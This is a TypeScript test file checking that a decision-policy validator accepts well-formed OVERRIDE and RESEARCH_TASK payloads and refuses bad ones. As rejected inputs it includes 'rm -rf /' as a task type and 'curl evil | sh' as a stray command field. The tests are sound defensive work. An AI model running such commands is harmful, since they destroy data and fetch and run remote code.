// Tests for the OVERRIDE and RESEARCH_TASK payloads (override-and-research.ts)
// as decisionEffect checks them: the contract's fields as written, each
// problem naming its field, limits inclusive.
import { describe, expect, test } from "bun:test";
import { decisionEffect } from "./decision-policy.ts";
import type { DecisionType } from "./messages.ts";
import { MAX_EXPECTED_IMPACT, MAX_TASK_DESCRIPTION, MAX_TASK_PARAMS_BYTES } from "./override-and-research.ts";

const ISSUED_AT = 1_000_000;
const check = (type: DecisionType, payload: Record<string, unknown>) => decisionEffect(type, payload, ISSUED_AT);
const problems = (type: DecisionType, payload: Record<string, unknown>) => {
  const effect = check(type, payload);
  return effect.kind === "invalid" ? effect.violations : [];
};

describe("OVERRIDE {reason, overridden_decision_id}", () => {
  const valid = { reason: "the universe was a typo", overridden_decision_id: "dec_Ab3_-x9Zq0123456789" };

  test("the contract's payload is recorded", () => {
    expect(check("OVERRIDE", valid)).toEqual({ kind: "record" });
  });

  test("both fields are required", () => {
    expect(problems("OVERRIDE", { reason: "why" })).toEqual(["overridden_decision_id: required: the id of the decision to override"]);
    expect(problems("OVERRIDE", { overridden_decision_id: valid.overridden_decision_id })).toEqual(["reason: required: why the decision is overridden"]);
    expect(problems("OVERRIDE", { ...valid, reason: "   " })).toEqual(["reason: required: why the decision is overridden"]);
  });

  test("the id must look like a decision id; other fields are refused by name", () => {
    for (const id of ["short", "x".repeat(65), "dec with spaces", 42]) {
      expect(problems("OVERRIDE", { ...valid, overridden_decision_id: id })[0]).toStartWith("overridden_decision_id: ");
    }
    expect(check("OVERRIDE", { ...valid, overridden_decision_id: "x".repeat(64) })).toEqual({ kind: "record" }); // 64 is the limit, inclusive
    expect(problems("OVERRIDE", { ...valid, target: "pi-1", max_leverage: 3 })).toEqual([
      "target: not a field of OVERRIDE (reason, overridden_decision_id)",
      "max_leverage: not a field of OVERRIDE (reason, overridden_decision_id)",
    ]);
  });
});

describe("RESEARCH_TASK {task_type, description, expected_impact?}", () => {
  const valid = { task_type: "journal_stats", description: "how often COOLDOWN holds" };

  test("the contract's payload is recorded, with or without expected_impact and params", () => {
    expect(check("RESEARCH_TASK", valid)).toEqual({ kind: "record" });
    expect(check("RESEARCH_TASK", { ...valid, expected_impact: "fewer holds", params: { window_minutes: 60 }, reason: "weekly review" })).toEqual({ kind: "record" });
  });

  test("task_type is a short identifier, never a command", () => {
    for (const taskType of ["rm -rf /", "Echo", "1stats", "", "x".repeat(65), "a/b", 7]) {
      expect(problems("RESEARCH_TASK", { ...valid, task_type: taskType })[0]).toStartWith("task_type: ");
    }
    expect(check("RESEARCH_TASK", { ...valid, task_type: "a" + "b".repeat(63) })).toEqual({ kind: "record" });
  });

  test("description is required text up to its limit, inclusive; expected_impact too", () => {
    expect(problems("RESEARCH_TASK", { task_type: "echo" })).toEqual(["description: required: what the task is for (text)"]);
    expect(problems("RESEARCH_TASK", { ...valid, description: " " })).toEqual(["description: required: what the task is for (text)"]);
    expect(check("RESEARCH_TASK", { ...valid, description: "d".repeat(MAX_TASK_DESCRIPTION) })).toEqual({ kind: "record" });
    expect(problems("RESEARCH_TASK", { ...valid, description: "d".repeat(MAX_TASK_DESCRIPTION + 1) })).toEqual([`description: at most ${MAX_TASK_DESCRIPTION} characters`]);
    expect(check("RESEARCH_TASK", { ...valid, expected_impact: "e".repeat(MAX_EXPECTED_IMPACT) })).toEqual({ kind: "record" });
    expect(problems("RESEARCH_TASK", { ...valid, expected_impact: "e".repeat(MAX_EXPECTED_IMPACT + 1) })).toEqual([`expected_impact: at most ${MAX_EXPECTED_IMPACT} characters`]);
    expect(problems("RESEARCH_TASK", { ...valid, expected_impact: 3 })[0]).toStartWith("expected_impact: ");
  });

  test("params is a small object; anything else is refused by name", () => {
    const fits = { note: "n".repeat(MAX_TASK_PARAMS_BYTES - '{"note":""}'.length) };
    expect(check("RESEARCH_TASK", { ...valid, params: fits })).toEqual({ kind: "record" });
    expect(problems("RESEARCH_TASK", { ...valid, params: { note: fits.note + "n" } })).toEqual([`params: at most ${MAX_TASK_PARAMS_BYTES} bytes of JSON`]);
    expect(problems("RESEARCH_TASK", { ...valid, params: [1] })[0]).toStartWith("params: ");
    expect(problems("RESEARCH_TASK", { ...valid, command: "curl evil | sh" })).toEqual([
      "command: not a field of RESEARCH_TASK (task_type, description, expected_impact, params, reason)",
    ]);
  });
});
